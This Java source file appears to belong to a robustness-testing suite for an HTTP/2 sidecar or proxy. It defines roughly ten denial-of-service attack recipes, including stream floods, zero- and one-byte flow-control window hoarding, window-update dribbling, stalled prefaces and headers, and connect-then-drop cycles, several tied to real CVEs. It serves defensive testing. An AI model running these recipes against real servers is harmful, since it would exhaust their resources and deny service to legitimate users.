package io.proa.proving.attack;

import static io.proa.proving.attack.Http2Line.DATA;
import static io.proa.proving.attack.Http2Line.END_HEADERS;
import static io.proa.proving.attack.Http2Line.HEADERS;
import static io.proa.proving.attack.Http2Line.INITIAL_WINDOW_SIZE;

import io.proa.proving.attack.Attack.Bounds;
import io.proa.proving.attack.Attack.Side;
import java.util.List;

/// Clients of HTTP/2 that do not go on, or do not let the sidecar go on.
final class Http2Stalls {
    private static final int STREAMS = 1000;
    private static final String RETAINED =
            "what waits for the client's windows is bounded for the connection, further requests on it wait,"
                    + " and an idle stream ends after 5 minutes";

    private Http2Stalls() {}

    static List<Attack> all() {
        return List.of(
                streamLimit(),
                hoard("zero_window_hoard", "CVE-2019-9511, 9517: windows of 0", 0, 0),
                hoard("tiny_window_hoard", "windows of 1 byte", 1, 0),
                hoard("patient_hoard", "windows of 0, each answer awaited", 0, 2),
                dribble(),
                closedWindow(),
                uploads(),
                preface(),
                headers(),
                dropped());
    }

    private static Attack streamLimit() {
        return Attack.flood(
                "stream_limit",
                Side.HTTP2,
                "CVE-2026-47244: more streams than allowed",
                attacker -> {
                    Http2Line line = attacker.http2(attacker.doors().deaf());
                    for (int stream = 1; attacker.goesOn(line); stream += 2) {
                        line.post(stream);
                    }
                    line.flush();
                    attacker.await();
                });
    }

    /// @param pause milliseconds before the next stream, in which the answers before it arrive
    private static Attack hoard(String name, String after, int window, int pause) {
        Attack.Recipe recipe =
                attacker -> {
                    Http2Line line =
                            attacker.http2(attacker.doors().large(), INITIAL_WINDOW_SIZE, window);
                    for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
                        line.get(stream);
                        if (pause > 0) {
                            line.flush();
                            attacker.pause(pause);
                        }
                    }
                    line.flush();
                    attacker.await(3500);
                };
        return Attack.harmless(name, Side.HTTP2, after, Bounds.STALL, RETAINED, recipe);
    }

    /// One byte of each stream's window, again and again.
    private static Attack dribble() {
        return Attack.flood(
                "tiny_window_dribble",
                Side.HTTP2,
                "CVE-2019-9511",
                attacker -> {
                    Http2Line line =
                            attacker.http2(attacker.doors().large(), INITIAL_WINDOW_SIZE, 0);
                    for (int stream = 1; stream < 200; stream += 2) {
                        line.get(stream);
                    }
                    while (attacker.goesOn(line)) {
                        for (int stream = 1; stream < 200 && attacker.goesOn(line); stream += 2) {
                            line.windowUpdate(stream, 1);
                        }
                    }
                    line.flush();
                    attacker.await();
                });
    }

    /// All windows of HTTP/2 are open, and that of TCP is not.
    private static Attack closedWindow() {
        Attack.Recipe recipe =
                attacker -> {
                    for (int i = 0; i < 8; i++) {
                        Http2Line line =
                                attacker.deafHttp2(
                                        attacker.doors().large(),
                                        INITIAL_WINDOW_SIZE,
                                        Integer.MAX_VALUE);
                        line.windowUpdate(0, Integer.MAX_VALUE - 65_535);
                        for (int stream = 1; stream < 200; stream += 2) {
                            line.get(stream);
                        }
                        line.flush();
                    }
                    attacker.await(3500);
                };
        return Attack.harmless(
                "tcp_window_closed", Side.HTTP2, "CVE-2019-9517", Bounds.STALL, RETAINED, recipe);
    }

    /// Bodies that the application does not read, beyond what the windows allow.
    private static Attack uploads() {
        return Attack.flood(
                "upload_hoard",
                Side.HTTP2,
                "bodies that nobody reads",
                attacker -> {
                    Http2Line line = attacker.http2(attacker.doors().deaf());
                    byte[] piece = new byte[16_000];
                    for (int stream = 1; attacker.goesOn(line); stream += 2) {
                        line.post(stream);
                        for (int i = 0; i < 4; i++) {
                            line.frame(DATA, 0, stream, piece);
                        }
                    }
                    line.flush();
                    attacker.await();
                });
    }

    private static Attack preface() {
        return Attack.stall(
                "preface_stall",
                Side.HTTP2,
                "half a preface, on 200 connections",
                11,
                attacker -> {
                    for (int i = 0; i < 200; i++) {
                        attacker.http1(attacker.doors().small()).say("PRI * HTTP/2.0\r\n\r\nSM");
                    }
                    attacker.await();
                });
    }

    /// A field block that does not come to its end.
    private static Attack headers() {
        return Attack.stall(
                "headers_stall",
                Side.HTTP2,
                "a field block without its end",
                11,
                attacker -> {
                    for (int i = 0; i < 200; i++) {
                        Http2Line line = attacker.http2(attacker.doors().small());
                        line.frame(HEADERS, 0, 1, Http2Line.GET);
                        line.flush();
                    }
                    attacker.await();
                });
    }

    /// All streams that are allowed, and then the connection dropped, again and again.
    private static Attack dropped() {
        Attack.Recipe recipe =
                attacker -> {
                    while (attacker.goesOn()) {
                        Http2Line line = attacker.http2(attacker.doors().deaf());
                        for (int stream = 1; stream < 600; stream += 2) {
                            line.frame(HEADERS, END_HEADERS, stream, Http2Line.POST);
                        }
                        line.flush();
                        attacker.pause(20);
                        line.drop();
                    }
                };
        return Attack.harmless(
                "full_and_dropped",
                Side.HTTP2,
                "CVE-2021-32778: many streams, then a reset",
                new Bounds(15_000, 8 << 20, 4),
                "each stream costs its end once, and all of it ends with the connection",
                recipe);
    }
}
